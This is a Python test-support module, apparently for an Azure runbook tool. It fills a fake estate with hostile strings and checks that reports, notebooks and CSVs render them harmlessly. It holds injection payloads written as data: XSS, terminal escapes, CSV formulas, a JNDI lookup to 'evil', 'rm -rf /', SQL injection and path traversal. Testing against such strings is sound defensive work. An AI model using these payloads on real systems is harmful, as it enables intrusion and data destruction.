"""
What an attacker calls things, and what must not come of it: the corpus of hostile strings, an estate that is full of
them, and what a browser, a terminal and a spreadsheet make of what is shown.
"""

from __future__ import annotations

import copy
import csv
import json
import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import runbook_lib.sandbox

__all__ = ["GROUP", "HOSTILE", "SENT", "Page", "acting", "commanding", "estate_of", "formulas", "shown_in"]

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</caption><h1>PROTECTED</h1>",
    "<style>td{display:none}</style>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<!-- ",
    " --><b>",
    "<![CDATA[<b>]]>",
    "<?php echo 1 ?>",
    "<a href='javascript:alert(1)'>x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "<",
    ">",
    "\x00<b>\x00",
    "\x1b[2J\x1b[1;1HPROTECTED",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "a\rPROTECTED",
    "a\nfake | row | PROTECTED",
    "a\r\nb",
    "a\tb",
    "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "\u202egnitset\u202c",
    "\u2066left\u2069",
    "\u200e\u200f\u061c",
    "\ufeffzero\u200bwidth",
    "\U000e0041\U000e0042",
    "\ud800",
    "=1+1",
    '=HYPERLINK("http://evil","x")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "|cmd",
    'a","=1+1',
    "a;b,c",
    "{{7*7}}",
    "{0}",
    "{vm.__class__}",
    "{",
    "}}",
    "%s %(x)s %n",
    "$x$ $$y$$ \\(z\\)",
    "${jndi:ldap://evil}",
    "`rm -rf /`",
    "**bold** [x](javascript:alert(1))",
    "| a | b |",
    "Robert'); DROP TABLE vms;--",
    "../../etc/passwd",
    "ñandú 日本語 עברית العربية 🦙",
    "x" * 65_536,
    "<b>" * 5_000,
    "",
    " ",
)
# Jupyter sets no formulas in what has these.
NO_FORMULAS = {("class", "tex2jax_ignore mathjax_ignore")}
ALLOWED = {
    "table": NO_FORMULAS,
    "caption": {("style", "text-align:left;font-weight:bold")},
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {("scope", "col"), ("scope", "row"), ("style", "text-align:left")},
    "td": {("style", "text-align:left"), ("style", "text-align:left;overflow-wrap:anywhere")},
    "p": NO_FORMULAS,
    "b": set(),
}


class Page(HTMLParser):
    """
    What a browser would make of a piece of HTML: its elements, and the text in each.
    """

    def __init__(self, content: str) -> None:
        super().__init__(convert_charrefs=True)
        self.strange: list[str] = []
        self.cells: list[str] = []
        self.open: list[str] = []
        self.feed(content)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.open.append(tag)
        if tag not in ALLOWED or not set(attrs) <= ALLOWED[tag]:
            self.strange.append(f"<{tag} {attrs}>")
        if tag in ("th", "td", "caption", "p"):
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.strange.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] in ("th", "td", "caption", "p", "b"):
            self.cells[-1] += data
        elif data.strip():
            self.strange.append(data)

    def handle_comment(self, data: str) -> None:
        self.strange.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.strange.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.strange.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.strange.append(f"<?{data}>")


def commanding(content: str) -> set[str]:
    """
    List the characters that a terminal would obey; line breaks are ours.
    """
    return {each for each in content if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}


# --- an estate that is full of it ---------------------------------------------------------------------------------

GROUP = "rg-hostile"
# No estate can hold half of a surrogate pair; an answer of the service can.
SENT = tuple(each for each in HOSTILE if "\ud800" not in each)
_MODEL = "bi01"
_MODEL_GROUP = "rg-bi-málaga"
_BUILT_IN = Path(runbook_lib.sandbox.__file__).parent / "estates" / "contoso.json"


def estate_of(path: Path, *, failing: bool) -> Path:
    """
    Write an estate in which each hostile string is the name of a rule of each NSG, is in the tags of a VM, and is what
    its guest says of itself.

    Args:
        failing: each is also what the service says of a change that it refuses; else it is the name of the VM and of
            its NIC, which Azure itself would not take and no write could be sent for.
    """
    estate = json.loads(_BUILT_IN.read_text(encoding="utf-8"))
    model = [each for each in estate["resources"] if f"/{_MODEL_GROUP}/" in f"{each['id']}/".lower()]
    own = [each for each in model if _MODEL in each["id"].rsplit("/", 1)[-1]]
    made = [_twin(each, _MODEL) for each in model if each not in own]
    made[0]["name"] = "<b>rg</b>\u202e"
    (was,) = (view for of, view in estate["status"].items() if of.endswith(f"/{_MODEL}"))
    for number, hostile in enumerate(SENT):
        for each in own:
            twin = _twin(each, f"h{number:02}")
            if twin["type"].lower().endswith("/virtualmachines"):
                twin["tags"] = {"wave": hostile, hostile[:200] or "empty": "x"}
                estate["status"][twin["id"]] = _view(was, hostile)
            if not failing and twin["type"].lower().endswith(("/virtualmachines", "/networkinterfaces")):
                twin["name"] = hostile
            made.append(twin)
    for nsg in (each for each in [*estate["resources"], *made] if each["type"].endswith("/networkSecurityGroups")):
        nsg["properties"]["securityRules"] += [_rule(nsg["id"], *each) for each in enumerate(SENT)]
    estate["resources"] += made
    estate["profile"] = {**estate["profile"], "faults": _faults() if failing else []}
    path.write_text(json.dumps(estate), encoding="utf-8")
    return path


def _twin(model: dict[str, Any], name: str) -> dict[str, Any]:
    said = json.dumps(model, ensure_ascii=False).replace(_MODEL, name)
    twin: dict[str, Any] = json.loads(re.sub(_MODEL_GROUP, GROUP, said, flags=re.IGNORECASE))
    return twin


def _view(model: dict[str, Any], hostile: str) -> dict[str, Any]:
    view = copy.deepcopy(model) | {"computerName": hostile, "osName": hostile, "osVersion": hostile}
    view["vmAgent"]["vmAgentVersion"] = hostile
    for status in view["vmAgent"]["statuses"]:
        status["message"] = hostile
    view["extensions"] = [
        {"name": hostile, "type": hostile, "typeHandlerVersion": hostile, "statuses": [{"message": hostile}]}
    ]
    return view


def _rule(nsg: str, number: int, hostile: str) -> dict[str, Any]:
    properties = {
        "access": "Allow",
        "description": hostile,
        "destinationAddressPrefix": "10.0.0.0/8",
        "destinationPortRange": "443",
        "direction": "Outbound",
        "priority": 1000 + number,
        "protocol": "Tcp",
        "provisioningState": "Succeeded",
        "sourceAddressPrefix": "*",
        "sourcePortRange": "*",
    }
    return {"id": f"{nsg}/securityRules/h{number:02}", "name": hostile, "properties": properties}


def _faults() -> list[dict[str, Any]]:
    return [
        {
            "method": "PUT",
            "path": f"/protecteditems/.*h{number:02}$",
            "status": 400,
            "code": hostile[:500] if number % 2 else "UserErrorX",
            "message": hostile,
        }
        for number, hostile in enumerate(SENT)
    ]


# --- what is shown ------------------------------------------------------------------------------------------------


def shown_in(path: Path) -> Iterator[tuple[str, str]]:
    """
    Take a file of a run apart into what a person is shown of it: `html`, `text`, `csv` or `json`, and the content.
    """
    content = path.read_bytes().decode("utf-8-sig")
    match path.suffix:
        case ".ipynb":
            for cell in json.loads(content)["cells"]:
                for output in cell.get("outputs", ()):
                    yield from _outputs(output)
        case ".html":
            yield "page", content
        case ".csv":
            yield "csv", content
        case ".json" | ".jsonl":
            yield "json", content
        case _:
            yield "text", content


def _outputs(output: dict[str, Any]) -> Iterator[tuple[str, str]]:
    if output["output_type"] == "stream":
        yield "text", "".join(output["text"])
    elif output["output_type"] == "error":
        yield "text", "".join(output["traceback"])
    for kind, value in output.get("data", {}).items():
        if kind == "text/html":
            yield "html", "".join(value)
        elif kind == "text/plain":
            yield "text", "".join(value)
        elif kind != "application/vnd.jupyter.widget-view+json":
            yield f"strange: {kind}", str(value)


def formulas(content: str) -> list[str]:
    """
    List the cells of a CSV file that a spreadsheet would calculate.
    """
    csv.field_size_limit(1 << 24)
    return [cell for row in csv.reader(content.splitlines()) for cell in row if cell.startswith(FORMULA)]


class _Acting(HTMLParser):
    """
    What of a whole page would run, load or send something.
    """

    def __init__(self, content: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(content)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "form", "base", "link", "svg", "math"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            led = (value or "").strip().lower().startswith(("javascript:", "http:", "https:", "//", "vbscript:"))
            if (
                name.startswith("on")
                or (name in ("src", "href", "action") and led)
                or (tag, name) == ("meta", "http-equiv")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")


def acting(content: str) -> list[str]:
    """
    List what of a page, such as a report, would run, load or send something; a policy for its content does not.
    """
    return [each for each in _Acting(content).found if "content-security-policy" not in each.lower()]
